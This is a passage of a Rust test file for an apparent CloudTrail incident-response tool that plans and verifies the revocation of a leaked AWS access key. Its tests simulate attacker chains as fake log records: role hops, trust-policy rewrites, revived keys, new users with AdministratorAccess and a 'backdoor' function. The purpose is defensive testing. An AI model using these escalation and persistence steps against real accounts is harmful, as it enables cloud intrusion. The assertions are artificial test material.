    let ops = format!("arn:aws:iam::{MAIN}:role/Ops");
    let trust = json!({"roleName": "Ops", "policyDocument": "{}"});
    s.call(&leaked, T0 + 30, "iam.amazonaws.com", "UpdateAssumeRolePolicy", trust);
    let mallory = s.console_login(SECOND, T0 + 100, "mallory");
    let theirs = s.assume_role(&mallory, T0 + 130, &ops, "m", 43_200);
    s.call(&theirs, T0 + 200, "s3.amazonaws.com", "ListBuckets", Value::Null);
    let mut owner = s.console_login(MAIN, T0 - 600, "owner");
    owner.issued_at = Some(T0 - 600);
    s.update_login_profile(&leaked, T0 + 300, "owner");
    let owners = s.create_access_key(&owner, T0 + 600, Some("owner"));
    s.edit_records(|_, r| {
        let user = r["userIdentity"]["userName"].as_str().unwrap_or("").to_string();
        if (user == "mallory" || user == "owner") && r["userIdentity"]["type"] == "IAMUser" {
            r["userIdentity"].as_object_mut().unwrap().remove("accessKeyId");
            if user == "owner" {
                let began = json!({"attributes": {"creationDate": "2024-03-11T09:50:00Z"}});
                r["userIdentity"]["sessionContext"] = began;
            }
        }
    });
    let d = write(&s, &[]);
    let tainted = tainted_ids(&d, LEAKED);
    assert!(tainted.iter().any(|t| t.contains(&theirs.key)), "{tainted:?}");
    let p = plan(&d, LEAKED, "strict");
    assert!(principals(&p, "put_role_policy").contains(&ops), "{p:#}");
    assert!(!deactivated(&p).contains(&owners.key.as_str()), "the owner's key: {p:#}");
    let (code, v) = verify(&d, &p);
    assert_eq!((code, v["verdict"].as_str()), (0, Some("OK")), "{v}");
}

/// An old access key of the leaked key's user that the leaked key set `Active` again
/// (`UpdateAccessKey`): its secret may have leaked with the new one (an old key in the same
/// repository's history). The plan deactivates it by the id the request names, and `verify`
/// fails without that deactivation. When the key signed calls since, what it did is a route
/// the taint does not follow (plan exit 1, verify FAIL) until it is given as a seed too.
/// (Before: a review item only, plan 0 and verify OK with the key active and an
/// `AttachUserPolicy` of its own in the logs.)
#[test]
fn an_old_key_the_leaked_key_set_active_again_is_deactivated() {
    const OLD: &str = "AKIAI44QH8DHBEXAMPLE";
    let mut s = Scenario::new();
    let leaked = s.user_key(MAIN, "ci-deployer", LEAKED);
    let old = s.user_key(MAIN, "ci-deployer", OLD);
    s.call(&old, T0 - 86_400, "s3.amazonaws.com", "ListBuckets", Value::Null);
    let status = |st: &str| json!({"userName": "ci-deployer", "accessKeyId": OLD, "status": st});
    let update = |s: &mut Scenario, at: i64, st: &str| {
        let (src, ua) = ("iam.amazonaws.com", "aws-cli/2.15.0");
        s.call_full(&leaked, at, src, "UpdateAccessKey", status(st), Value::Null, None, ua);
    };
    // Set Inactive: what the plan does itself, not a credential revived.
    update(&mut s, T0 - 60, "Inactive");
    let d = write(&s, &[]);
    assert_eq!(deactivated(&plan(&d, LEAKED, "strict")), [LEAKED]);
    update(&mut s, T0, "Active");
    let d = write(&s, &[]);
    let p = plan(&d, LEAKED, "strict");
    let sorted = |p: &Value| {
        let mut k = deactivated(p).into_iter().map(String::from).collect::<Vec<_>>();
        k.sort();
        k
    };
    assert_eq!(sorted(&p), [OLD, LEAKED], "{p:#}");
    assert_eq!(p["summary"]["keys_to_deactivate"], 2, "{}", p["summary"]);
    let a = actions(&p, "deactivate_access_key")[0];
    assert_eq!(a["user_name"], "ci-deployer");
    assert!(a["reason"].as_str().unwrap().contains("set Active again"), "{a}");
    let (code, v) = verify(&d, &p);
    assert_eq!(code, 0, "{v}");
    assert_eq!(v["keys_deactivated"].as_array().map(Vec::len), Some(2), "{v}");
    let mut m = p.clone();
    m["actions"].as_array_mut().unwrap().retain(|a| a["access_key_id"] != OLD);
    let (code, v) = verify(&d, &m);
    assert_eq!(code, 1, "{v}");
    assert!(v["keys_left_active"].to_string().contains(OLD), "{v}");
    // The old key is used after it: what it did is not followed.
    let policy = json!({"userName": "ci-deployer", "policyArn": "arn:aws:iam::aws:policy/AdministratorAccess"});
    s.call(&old, T0 + 60, "iam.amazonaws.com", "AttachUserPolicy", policy);
    let d = write(&s, &[]);
    let p = plan_with_routes(&d, LEAKED, 1);
    assert_eq!(sorted(&p), [OLD, LEAKED], "{p:#}");
    let reviews = review_reasons(&p);
    assert!(
        reviews.iter().any(|r| r.contains("NOT FOLLOWED") && r.contains(&format!("--key {OLD}"))),
        "{reviews:?}"
    );
    assert_eq!(verify(&d, &p).0, 1);
    // Given as a seed too, its calls are the taint's own: the plan passes.
    let (code, p, err) = run(&["plan", "--key", LEAKED, "--key", OLD, "--effective-at", CUT], &d);
    assert_eq!(code, 0, "{err}");
    assert_eq!(verify(&d, &p).0, 0);
}

/// A record that does not say who made the call (no `userIdentity`, or null), or whose
/// nested objects the graph reads are JSON text or arrays (CloudTrail Lake's and some SIEMs'
/// `map<string,string>` shape), or whose key ids are not strings, is rejected: read as a call
/// by nobody, the leaked key's role assumption lost the role's chain, and read as "no key
/// made", the attacker's `CreateAccessKey` left its key active, plan and verify OK on that
/// evidence (a review). Each run exits 3 naming the field, and verify says INCOMPLETE.
#[test]
fn records_whose_caller_or_issued_credentials_cannot_be_read_are_rejected() {
    let (mut s, _, _) = two_roles();
    let leaked = s.user_key(MAIN, "ci-deployer", LEAKED);
    s.create_access_key(&leaked, T0 + 400, Some("ci-deployer"));
    let admin_role = format!("arn:aws:iam::{MAIN}:role/AdminRole");
    type Edit = Box<dyn Fn(&mut Value)>;
    let cases: Vec<(&str, &str, Edit)> = vec![
        (
            "AssumeRole",
            "userIdentity is missing or null",
            Box::new(|r| r["userIdentity"] = Value::Null),
        ),
        (
            "AssumeRole",
            "userIdentity is missing or null",
            Box::new(|r| {
                r.as_object_mut().unwrap().remove("userIdentity");
            }),
        ),
        (
            "AssumeRole",
            "responseElements.credentials is a string",
            Box::new(|r| {
                let c = r["responseElements"]["credentials"].to_string();
                r["responseElements"]["credentials"] = c.into();
            }),
        ),
        (
            "AssumeRole",
            "userIdentity.accessKeyId is an array",
            Box::new(|r| {
                let k = r["userIdentity"]["accessKeyId"].clone();
                r["userIdentity"]["accessKeyId"] = json!([k]);
            }),
        ),
        (
            "CreateAccessKey",
            "responseElements.accessKey is a string",
            Box::new(|r| {
                let k = r["responseElements"]["accessKey"].to_string();
                r["responseElements"]["accessKey"] = k.into();
            }),
        ),
        (
            "CreateAccessKey",
            "responseElements.accessKey.accessKeyId is an array",
            Box::new(|r| {
                let k = r["responseElements"]["accessKey"]["accessKeyId"].clone();
                r["responseElements"]["accessKey"]["accessKeyId"] = json!([k]);
            }),
        ),
        (
            "ListBuckets",
            "userIdentity.sessionContext is a string",
            Box::new(|r| {
                let c = r["userIdentity"]["sessionContext"].to_string();
                r["userIdentity"]["sessionContext"] = c.into();
            }),
        ),
        (
            "AssumeRole",
            "userIdentity names no caller",
            Box::new(|r| {
                r["userIdentity"] = json!({"type": "IAMUser"});
            }),
        ),
        (
            "CreateAccessKey",
            "eventSource is missing or empty",
            Box::new(|r| {
                r.as_object_mut().unwrap().remove("eventSource");
            }),
        ),
        (
            "AssumeRole",
            "eventSource \"sts.amazonaws.com \" is not the service of AssumeRole",
            Box::new(|r| {
                r["eventSource"] = "sts.amazonaws.com ".into();
            }),
        ),
        (
            "CreateAccessKey",
            "eventSource \"sts.amazonaws.com\" is not the service",
            Box::new(|r| {
                r["eventSource"] = "sts.amazonaws.com".into();
            }),
        ),
        (
            "AssumeRole",
            "eventName \"assumeRole\" is not as CloudTrail writes it",
            Box::new(|r| {
                r["eventName"] = "assumeRole".into();
            }),
        ),
        (
            "CreateAccessKey",
            "eventName \"CreateAccesskey\" is not as CloudTrail",
            Box::new(|r| {
                r["eventName"] = "CreateAccesskey".into();
            }),
        ),
        (
            "AssumeRole",
            "holds characters no API operation name has",
            Box::new(|r| {
                r["eventName"] = "Assume\u{0420}ole".into();
            }),
        ),
        (
            "AssumeRole",
            "requestParameters.roleArn is an array, not a string",
            Box::new(|r| {
                let a = r["requestParameters"]["roleArn"].clone();
                r["requestParameters"]["roleArn"] = json!([a]);
            }),
        ),
    ];
    let (code, good, err) = run(&["plan", "--key", LEAKED, "--effective-at", CUT], &write(&s, &[]));
    assert_eq!(code, 0, "{err}");
    for (name, said, edit) in &cases {
        let mut bad = s.clone();
        let mut edited = 0;
        bad.edit_records(|_, r| {
            let ours =
                *name != "AssumeRole" || r["requestParameters"]["roleArn"] == admin_role.as_str();
            let session = *name != "ListBuckets" || r["userIdentity"]["type"] == "AssumedRole";
            if r["eventName"] == *name && ours && session && edited == 0 {
                edit(r);
                edited += 1;
            }
        });
        assert_eq!(edited, 1, "{name}");
        let d = write(&bad, &[]);
        let (code, p, err) = run(&["plan", "--key", LEAKED, "--effective-at", CUT], &d);
        assert_eq!(code, 3, "{said}: {err}");
        assert!(err.contains(said) && err.contains("(wrong_type)"), "{said}: {err}");
        let (code, v) = verify(&d, &p);
        assert_eq!((code, v["verdict"].as_str()), (3, Some("INCOMPLETE")), "{said}: {v}");
        // The plan of the intact evidence still verifies over it: nothing is passed that the
        // intact evidence would fail.
        assert_ne!(verify(&d, &good).0, 0, "{said}");
    }
}

/// A role assumption of the leaked key whose request and response are JSON strings (as some
/// exports keep them) is rejected (SPEC §8, a wrong type in one field): read as a call with
/// neither, it had made no session, and the plan passed with the role's session alive. The
/// run says it is incomplete, and so does verify. With both null the call still made a
/// session: counted with no key and no principal, NOT COVERED.
#[test]
fn a_role_assumption_whose_request_and_response_cannot_be_read_is_never_passed() {
    let (mut s, _, _) = two_roles();
    let admin_role = format!("arn:aws:iam::{MAIN}:role/AdminRole");
    let is_admin = |r: &Value| r["requestParameters"]["roleArn"] == admin_role.as_str();
    let mut strings = s.clone();
    strings.edit_records(|_, r| {
        if r["eventName"] == "AssumeRole" && is_admin(r) {
            for f in ["requestParameters", "responseElements"] {
                r[f] = Value::String(r[f].to_string());
            }
        }
    });
    let d = write(&strings, &[]);
    let (code, p, err) = run(&["plan", "--key", LEAKED, "--effective-at", CUT], &d);
    assert_eq!(code, 3, "{err}");
    assert!(err.contains("requestParameters is a string, not an object"), "{err}");
    // So is one whose name is not a string, however readable the rest.
    let mut named = s.clone();
    named.edit_records(|_, r| {
        if r["eventName"] == "AssumeRole" && is_admin(r) {
            r["eventName"] = json!(["AssumeRole"]);
        }
    });
    let (code, _, err) =
        run(&["plan", "--key", LEAKED, "--effective-at", CUT], &write(&named, &[]));
    assert_eq!(code, 3, "{err}");
    assert!(err.contains("eventName is an array, not a string"), "{err}");
    assert!(err.contains("(wrong_type)"), "{err}");
    let (code, v) = verify(&d, &p);
    assert_eq!((code, v["verdict"].as_str()), (3, Some("INCOMPLETE")), "{v}");
    let (_, scan, _) = run(&["scan", "--format", "json"], &d);
    assert_eq!(scan["problems_by_reason"]["wrong_type"], 1, "{scan}");
    // Both null: a session of unknown principal, live and not covered.
    s.edit_records(|_, r| {
        if r["eventName"] == "AssumeRole" && is_admin(r) {
            r["requestParameters"] = Value::Null;
            r["responseElements"] = Value::Null;
        }
    });
    let d = write(&s, &[]);
    let (code, p, err) = run(&["plan", "--key", LEAKED, "--effective-at", CUT], &d);
    assert_eq!(code, 1, "{err}");
    assert_eq!(p["summary"]["uncovered_sessions"], 1, "{}", p["summary"]);
    let unseen = "NOT COVERED: live tainted session no-key-logged@2024-03-11T10:01:00Z";
    assert!(p["notes"].to_string().contains(unseen), "{}", p["notes"]);
    assert_eq!(verify(&d, &p).0, 1);
}

/// A user the leaked key made whose `CreateUser` record names it nowhere (request and
/// response null: a damaged or converted record) is still the attacker's: a user whose name
/// the plan cannot tell, left to a NOT CUT review item (plan exit 1, verify FAIL). Before,
/// the grant was dropped: the user, its password and its console session went unfollowed,
/// plan 0 and verify OK.
#[test]
fn a_user_made_by_a_record_that_names_no_user_is_not_passed() {
    let mut s = Scenario::new();
    let leaked = s.user_key(MAIN, "ci-deployer", LEAKED);
    s.create_user(&leaked, T0, "evil");
    let console = s.console_login(MAIN, T0 + 60, "evil");
    s.call(&console, T0 + 90, "s3.amazonaws.com", "ListBuckets", Value::Null);
    let d = write(&s, &[]);
    assert_eq!(plan(&d, LEAKED, "strict")["summary"]["users_by_hand"], Value::Null);
    s.edit_records(|_, r| {
        if r["eventName"] == "CreateUser" {
            r["requestParameters"] = Value::Null;
            r["responseElements"] = Value::Null;
        }
    });
    let d = write(&s, &[]);
    let (code, p, err) = run(&["plan", "--key", LEAKED, "--effective-at", CUT], &d);
    assert_eq!(code, 1, "{err}");
    assert_eq!(p["summary"]["users_by_hand"], 1, "{}", p["summary"]);
    assert!(p["notes"].to_string().contains("NOT CUT: user ?unnamed:"), "{}", p["notes"]);
    let (code, v) = verify(&d, &p);
    assert_eq!(code, 1, "{v}");
}

/// An export to Parquet of logs that could not all be read carries that in its footer, and a
/// plan started from it says INCOMPLETE as one from the logs does. (Before: `export` warned and
/// exited 3 but the Parquet read back clean, and a plan from it exited 0 with verify OK, the
/// session of the role assumption it had lost alive; `export --partition` for a big trail is
/// the route the README gives.)
#[test]
fn a_parquet_export_of_incomplete_logs_is_read_back_as_incomplete() {
    let (mut s, _, _) = two_roles();
    let admin_role = format!("arn:aws:iam::{MAIN}:role/AdminRole");
    let from = |input: &std::path::Path, args: &[&str]| {
        let o = bin().args(args).arg("--no-progress").arg(input).output().unwrap();
        (o.status.code().unwrap(), String::from_utf8_lossy(&o.stderr).to_string())
    };
    let plan_args = ["plan", "--key", LEAKED, "--effective-at", CUT, "-o"];
    for (broken, want) in [(false, 0), (true, 3)] {
        if broken {
            s.edit_records(|_, r| {
                if r["eventName"] == "AssumeRole"
                    && r["requestParameters"]["roleArn"] == admin_role.as_str()
                {
                    r["requestParameters"] = Value::String(r["requestParameters"].to_string());
                }
            });
        }
        let d = write(&s, &[]);
        let trail = d.path().join("trail");
        for (out, partition) in [("x.parquet", false), ("part", true)] {
            let out = d.path().join(out);
            let mut args = vec!["export", "-o", out.to_str().unwrap()];
            if partition {
                args.push("--partition");
            }
            let (code, err) = from(&trail, &args);
            assert_eq!(code, want, "{err}");
            let p = d.path().join("p.json");
            let mut pa = plan_args.to_vec();
            pa.push(p.to_str().unwrap());
            let (code, err) = from(&out, &pa);
            assert_eq!(code, want, "{err}");
            if broken {
                assert!(err.contains("says it is incomplete"), "{err}");
            }
            let (code, err) = from(&out, &["verify", "--plan", p.to_str().unwrap()]);
            assert_eq!(code, want, "{err}");
        }
    }
}

/// The case's own exports in CSV and JSON Lines (which trailhound does not read back), found
/// in a folder beside evidence it does read, fail the run naming each (exit 3): a walk
/// skipped them as stray files, and the plan of what else the folder held passed (a review).
#[test]
fn the_cases_own_csv_and_json_lines_exports_in_a_folder_are_not_skipped() {
    let (s, _, _) = two_roles();
    let d = write(&s, &[]);
    let trail = d.path().join("trail");
    let folder = d.path().join("exports");
    std::fs::create_dir_all(&folder).unwrap();
    for name in ["case.csv", "case.jsonl"] {
        let mut cmd = bin();
        let o = cmd.args(["export", "--no-progress", "-q", "-o"]).arg(folder.join(name));
        let o = o.arg(&trail).output().unwrap();
        assert_eq!(o.status.code(), Some(0), "{o:?}");
    }
    // Re-saved by other tools: keys sorted (serde_json's maps), the header quoted, in
    // capitals, `;` between.
    let lines = std::fs::read_to_string(folder.join("case.jsonl")).unwrap();
    let sorted: Vec<String> =
        lines.lines().map(|l| serde_json::from_str::<Value>(l).unwrap().to_string()).collect();
    std::fs::write(folder.join("sorted.jsonl"), sorted.join("\n")).unwrap();
    let csv = std::fs::read_to_string(folder.join("case.csv")).unwrap();
    let (head, rows) = csv.split_once('\n').unwrap();
    let head: Vec<String> = head.split(',').map(|c| format!("\"{}\"", c.to_uppercase())).collect();
    std::fs::write(folder.join("semi.csv"), format!("{}\n{rows}", head.join(";"))).unwrap();
    // Beside them, one record the tool reads (the leaked key's first call), and the case's
    // blast.json, which names `event_time` and is no evidence: skipped, not failed.
    let first = files_under(&trail).into_iter().next().unwrap();
    std::fs::copy(&first, folder.join("one.json.gz")).unwrap();
    let (_, mut blast, _) = run(&["blast", "--key", LEAKED, "--format", "json"], &d);
    blast["tainted_events"] = json!([{"event_id": "e1", "event_time": "2024-03-11T10:01:00Z",
        "event_source": "sts.amazonaws.com", "event_name": "AssumeRole"}]);
    std::fs::write(folder.join("blast.json"), blast.to_string()).unwrap();
    let mut cmd = bin();
    let o = cmd.args(["plan", "--no-progress", "--key", LEAKED, "--effective-at", CUT]);
    let o = o.arg(&folder).output().unwrap();
    let err = String::from_utf8_lossy(&o.stderr);
    assert_eq!(o.status.code(), Some(3), "{err}");
    for name in ["case.csv", "case.jsonl", "sorted.jsonl", "semi.csv"] {
        let line = err.lines().find(|l| l.contains(&format!("/{name}: "))).unwrap_or_default();
        assert!(line.contains("the fields of CloudTrail records"), "{name}: {err}");
    }
    assert!(err.contains("skipped: ") && err.contains("blast.json"), "{err}");
    assert!(!err.contains("blast.json: valid JSON but not CloudTrail; yet"), "{err}");
}

/// The leaked key assumes `Admin/s1` for 15 minutes and uses it; later it assumes `Admin/s1`
/// again where the trail does not record it (F15) and hops into the second account, whose
/// logs hold only the role owner's copy of that call, naming its caller `AROA…:s1`. The only
/// session of that id the trail shows had ended by then: the hop was left to the account
/// node, and the session it made, with the user and key that session created, was in no part
/// of the plan, exit 0, verify OK (a review). Now that session is one to check: its role is
/// denied with a review item, what it made is left to a human, plan exits 1, verify fails.
/// With the second assumption in the trail, the hop is linked to it and cut (exit 0).
#[test]
fn a_hop_from_a_session_over_by_then_is_checked() {
    for logged in [false, true] {
        let mut s = Scenario::new();
        let leaked = s.user_key(MAIN, "ci-deployer", LEAKED);
        let admin = format!("arn:aws:iam::{MAIN}:role/Admin");
        let first = s.assume_role(&leaked, T0, &admin, "s1", 900);
        s.call(&first, T0 + 300, "s3.amazonaws.com", "ListBuckets", Value::Null);
        let again = s.assume_role(&leaked, T0 + 1500, &admin, "s1", 3600);
        let x = format!("arn:aws:iam::{SECOND}:role/XAdmin");
        let hop = s.assume_role(&again, T0 + 1800, &x, "x1", 3600);
        s.create_user(&hop, T0 + 2100, "svc-backup");
        let made = s.create_access_key(&hop, T0 + 2160, Some("svc-backup"));
        let (hop_at, again_at) =
            (trailhound::time::fmt_iso(T0 + 1800), trailhound::time::fmt_iso(T0 + 1500));
        s.drop_records(|account, r| {
            let at = r["eventTime"].as_str().unwrap_or("");
            account == MAIN
                && r["eventName"] == "AssumeRole"
                && (at == hop_at || (!logged && at == again_at))
        });
        let d = write(&s, &[]);
        let (code, p, err) = run(&["plan", "--key", LEAKED, "--effective-at", CUT], &d);
        let tainted = tainted_ids(&d, LEAKED);
        if logged {
            assert_eq!(code, 0, "{err}");
            assert!(tainted.contains(&hop.node_id()), "{tainted:?}");
            assert!(deactivated(&p).contains(&made.key.as_str()), "{p:#}");
            assert_eq!(verify(&d, &p).0, 0);
            continue;
        }
        assert_eq!(code, 1, "{err}");
        assert!(!tainted.contains(&hop.node_id()), "a check, not a link: {tainted:?}");
        assert!(principals(&p, "put_role_policy").contains(&x), "{p:#}");
        let reviews = review_reasons(&p);
        let check = reviews
            .iter()
            .find(|r| {
                r.contains(&hop.node_id()) && r.contains("names its caller only by aws:userid")
            })
            .unwrap_or_else(|| panic!("{reviews:#?}"));
        assert!(check.contains(&first.principal_id), "{check}");
        assert!(reviews.iter().any(|r| r.contains(&made.key)), "{reviews:#?}");
        assert!(!deactivated(&p).contains(&made.key.as_str()), "nothing it made is removed");
        assert!(actions(&p, "delete_user").is_empty(), "{p:#}");
        let (code, v) = verify(&d, &p);
        assert_eq!(code, 1, "{v:#}");
    }
}

/// A session seen in use whose calls carry no `creationDate` (a damaged or converted export)
/// was taken to have its issuing call's second as its `aws:TokenIssueTime`, though that runs
/// a second or two later (F5): issued at 10:59:59 and denied `DateLessThan` 11:00:00, it was
/// counted covered, exit 0, verify OK (a review). It now gets the allowance of a session
/// never seen: NOT COVERED at that cut-off, covered at one past it. With its `creationDate`
/// on its calls, the cut-off one second after the call covers it, as before.
#[test]
fn a_session_whose_calls_carry_no_creation_date_is_given_the_issue_skew() {
    for with_date in [false, true] {
        let mut s = Scenario::new();
        let leaked = s.user_key(MAIN, "ci-deployer", LEAKED);
        let role = format!("arn:aws:iam::{MAIN}:role/Late");
        let late = s.assume_role(&leaked, T0 + 3599, &role, "l", 3600);
        s.call(&late, T0 + 3660, "s3.amazonaws.com", "ListBuckets", Value::Null);
        if !with_date {
            s.edit_records(|_, r| {
                if r["userIdentity"]["type"] == "AssumedRole" {
                    r["userIdentity"]["sessionContext"]["attributes"]
                        .as_object_mut()
                        .unwrap()
                        .remove("creationDate");
                }
            });
        }
        let d = write(&s, &[]);
        let at = |t: i64| trailhound::time::fmt_iso(t);
        let (code, p, err) = run(
            &["plan", "--key", LEAKED, "--strategy", "strict", "--effective-at", &at(T0 + 3600)],
            &d,
        );
        let want = if with_date { 0 } else { 1 };
        assert_eq!(code, want, "{err}");
        assert_eq!(
            p["summary"]["uncovered_sessions"].as_u64().unwrap_or(0),
            want as u64,
            "{}",
            p["summary"]
        );
        assert_eq!(verify(&d, &p).0, want);
        let (code, p, err) = run(
            &["plan", "--key", LEAKED, "--strategy", "strict", "--effective-at", &at(T0 + 3602)],
            &d,
        );
        assert_eq!(code, 0, "{err}");
        assert!(principals(&p, "put_role_policy").contains(&role), "{p:#}");
        assert_eq!(verify(&d, &p).0, 0);
    }
}

/// A surgical deny named a session `evil\u{100}` (a forged record: no session name holds it)
/// beside the real `evil`; IAM takes only tab, line feed, carriage return and U+0020–U+00FF
/// in a policy document, so the put would be refused and `evil` left uncut, while plan exited
/// 0 and verify said OK (a review). The role now gets the strict deny, with a note, and
/// verify refuses a surgical deny holding the character.
#[test]
fn a_session_name_iam_refuses_in_a_policy_gets_the_strict_deny() {
    let mut s = Scenario::new();
    let leaked = s.user_key(MAIN, "ci-deployer", LEAKED);
    let role = format!("arn:aws:iam::{MAIN}:role/Admin");
    let real = s.assume_role(&leaked, T0, &role, "evil", 7200);
    let forged = s.assume_role(&leaked, T0 + 60, &role, "evil\u{100}", 7200);
    s.call(&real, T0 + 120, "s3.amazonaws.com", "ListBuckets", Value::Null);
    s.call(&forged, T0 + 180, "s3.amazonaws.com", "ListBuckets", Value::Null);
    let d = write(&s, &[]);
    let p = plan(&d, LEAKED, "surgical");
    let puts = actions(&p, "put_role_policy");
    assert_eq!(puts.len(), 1, "{p:#}");
    assert!(puts[0]["policy_name"].as_str().unwrap().starts_with("TrailhoundRevokeOlderSessions-"));
    assert!(!puts[0].to_string().contains('\u{100}'), "{}", puts[0]);
    let notes = p["notes"].to_string();
    assert!(notes.contains("U+0100") && notes.contains("strict instead"), "{notes}");
    assert_eq!(verify(&d, &p).0, 0);
    // The deny the planner wrote before, naming both sessions: refused, so FAIL.
    let mut old = p.clone();
    let doc = json!({"Version": "2012-10-17", "Statement": [{
        "Sid": "TrailhoundRevokeTaintedSessions", "Effect": "Deny", "Action": "*", "Resource": "*",
        "Condition": {"DateLessThan": {"aws:TokenIssueTime": CUT},
            "StringLike": {"aws:userid": [real.principal_id.clone(), forged.principal_id.clone()]}}}]});
    for a in old["actions"].as_array_mut().unwrap() {
        if a["type"] == "put_role_policy" {
            a["policy_document"] = doc.clone();
            a["policy_name"] = json!("TrailhoundRevokeTaintedSessions");
        }
    }
    let (code, v) = verify(&d, &old);
    assert_eq!(code, 1, "{v:#}");
    assert!(v.to_string().contains("U+0100"), "{v:#}");
}

/// The rule of [`a_hop_from_a_session_over_by_then_is_checked`] whatever else carries the
/// caller id (a review of its first version, which only looked when no session of the id was
/// alive, and at the 64 latest before the call): a clean session of `Admin/s1` alive at the
/// hop (the graph links the hop to it), 70 clean sessions of that id after the tainted one
/// (over by the hop, or alive at it: too many to link each),
/// the leaked key's `Admin/s1` issued a minute after the hop, and a second hop from the
/// session the first one made. Each hop's session is one to check: plan exits 1, verify
/// fails, and nothing it made is removed.
#[test]
fn hops_by_a_tainted_caller_id_are_checked_whatever_else_carries_it() {
    let admin = format!("arn:aws:iam::{MAIN}:role/Admin");
    let x = format!("arn:aws:iam::{SECOND}:role/XAdmin");
    let y = format!("arn:aws:iam::{THIRD}:role/YAdmin");
    let cases = [
        "clean alive",
        "many over",
        "many alive",
        "tainted later",
        "second hop",
        "second hop, no id",
        "disputed id",
        "lower case",
    ];
    for case in cases {
        let mut s = Scenario::new();
        let leaked = s.user_key(MAIN, "ci-deployer", LEAKED);
        let deploy = s.user_key(MAIN, "deploy", "AKIAI44QH8DHBEXAMPLE");
        if case == "tainted later" {
            let late = s.assume_role(&leaked, T0 + 1860, &admin, "s1", 900);
            s.call(&late, T0 + 1900, "s3.amazonaws.com", "ListBuckets", Value::Null);
        } else {
            let first = s.assume_role(&leaked, T0, &admin, "s1", 900);
            s.call(&first, T0 + 300, "s3.amazonaws.com", "ListBuckets", Value::Null);
            if case == "disputed id" {
                // A second record of the call (planted) naming another role id: the session
                // is left without an id (`twin.rs`), and is matched by account and name.
                let request =
                    json!({"roleArn": admin, "roleSessionName": "s1", "durationSeconds": 900});
                let response = json!({
                    "credentials": {"accessKeyId": first.key, "sessionToken": "x", "expiration": "Mar 11, 2024, 10:15:00 AM"},
                    "assumedRoleUser": {"assumedRoleId": "AROAOTHERROLEXXXXXXXX:s1", "arn": first.arn},
                });
                let sts = "sts.amazonaws.com";
                s.call_full(
                    &leaked,
                    T0,
                    sts,
                    "AssumeRole",
                    request,
                    response,
                    None,
                    "aws-cli/2.15.0",
                );
            }
        }
        match case {
            "clean alive" => {
                let clean = s.assume_role(&deploy, T0 + 1200, &admin, "s1", 3600);
                s.call(&clean, T0 + 1250, "s3.amazonaws.com", "ListBuckets", Value::Null);
            }
            // Over before the hop, after the tainted one; or alive at it, too many to link.
            "many over" | "many alive" => {
                let from = if case == "many over" { T0 + 10 } else { T0 + 901 };
                for i in 0..70 {
                    let clean = s.assume_role(&deploy, from + i * 5, &admin, "s1", 900);
                    s.call(
                        &clean,
                        from + i * 5 + 2,
                        "s3.amazonaws.com",
                        "ListBuckets",
                        Value::Null,
                    );
                }
            }
            _ => {}
        }
        // The attacker's own session of that id, assumed where the trail does not record it.
        let again = s.assume_role(&leaked, T0 + 1500, &admin, "s1", 3600);
        let second = case.starts_with("second hop");
        let life = if second { 1800 } else { 3600 };
        let hop = s.assume_role(&again, T0 + 1800, &x, "x1", life);
        let mut last = hop.clone();
        if second {
            // x1 hops on at its last minute, seen only in the third account's copy.
            last = s.assume_role(&hop, T0 + 3500, &y, "y1", 3600);
        }
        s.create_user(&last, T0 + 3540, "svc-backup");
        let made = s.create_access_key(&last, T0 + 3560, Some("svc-backup"));
        let hidden = [T0 + 1500, T0 + 1800, T0 + 3500].map(trailhound::time::fmt_iso);
        s.drop_records(|account, r| {
            let at = r["eventTime"].as_str().unwrap_or("");
            r["eventName"] == "AssumeRole"
                && hidden.iter().any(|h| h == at)
                && (account == MAIN || (account == SECOND && at == hidden[2]))
        });
        if case == "second hop, no id" {
            // x1's record lost the role user of its response: a session to check with no id,
            // followed by its account and session name.
            let at = trailhound::time::fmt_iso(T0 + 1800);
            s.edit_records(|account, r| {
                if account == SECOND
                    && r["eventName"] == "AssumeRole"
                    && r["eventTime"] == at.as_str()
                {
                    r["responseElements"].as_object_mut().unwrap().remove("assumedRoleUser");
                }
            });
        }
        if case == "lower case" {
            // A converted export writing the caller id in lower case.
            s.edit_records(|account, r| {
                if account == SECOND && r["userIdentity"]["type"] == "AWSAccount" {
                    let pid = r["userIdentity"]["principalId"].as_str().unwrap().to_lowercase();
                    r["userIdentity"]["principalId"] = json!(pid);
                }
            });
        }
        let d = write(&s, &[]);
        let (code, p, err) = run(&["plan", "--key", LEAKED, "--effective-at", CUT], &d);
        assert_eq!(code, 1, "{case}: {err}");
        let reviews = review_reasons(&p);
        for session in std::iter::once(&hop).chain(second.then_some(&last)) {
            assert!(
                reviews.iter().any(|r| r.contains(&session.node_id())
                    && r.contains("names its caller only by aws:userid")),
                "{case}: {}: {reviews:#?}",
                session.node_id()
            );
        }
        let denied = principals(&p, "put_role_policy");
        let want = if second { &y } else { &x };
        assert!(denied.contains(want), "{case}: {denied:?}");
        assert!(
            !deactivated(&p).contains(&made.key.as_str()),
            "{case}: nothing it made is removed"
        );
        assert!(actions(&p, "delete_user").is_empty(), "{case}: {p:#}");
        assert_eq!(verify(&d, &p).0, 1, "{case}");
    }
}

/// A function the leaked key made with an existing role (scheduled, not run before the logs
/// end) and an instance it launched with that role's profile, neither with a session in the
/// trail: Lambda and EC2 take the role's sessions by themselves once they run (F21), and no
/// deny of the plan can name sessions the trail does not hold, so each is a route not followed
/// (a review found the function with plan exit 0 and verify OK, its only trace a review item).
/// Once a session of each is in the trail, the plan denies them by their `aws:userid` and
/// passes.
#[test]
fn a_function_or_instance_whose_sessions_the_trail_lacks_is_a_route_not_followed() {
    let admin = format!("arn:aws:iam::{MAIN}:role/AdminRole");
    let instance = "i-0a1b2c3d4e5f60718";
    for seen in [false, true] {
        let mut s = Scenario::new();
        let leaked = s.user_key(MAIN, "ci-deployer", LEAKED);
        s.function_change(&leaked, T0 + 60, "CreateFunction20150331", "backdoor", Some(&admin));
        s.run_instances(&leaked, T0 + 70, "AdminProfile", &[instance]);
        if seen {
            let f = s.function_session(&admin, "backdoor", T0 + 120, 900);
            let i = s.instance_session(&admin, instance, T0 + 130, 6 * 3600);
            s.call(&f, T0 + 200, "s3.amazonaws.com", "ListBuckets", Value::Null);
            s.call(&i, T0 + 210, "s3.amazonaws.com", "ListBuckets", Value::Null);
        }
        let d = write(&s, &[]);
        if seen {
            let p = plan(&d, LEAKED, "strict");
            let (code, v) = verify(&d, &p);
            assert_eq!(code, 0, "{v}");
            // New code for the function (its role kept): its next sessions are those the deny
            // already names. But each change is judged by its own sessions (a review): those
            // of AdminRole do not stand for the ones it takes once the key moves it to another
            // role.
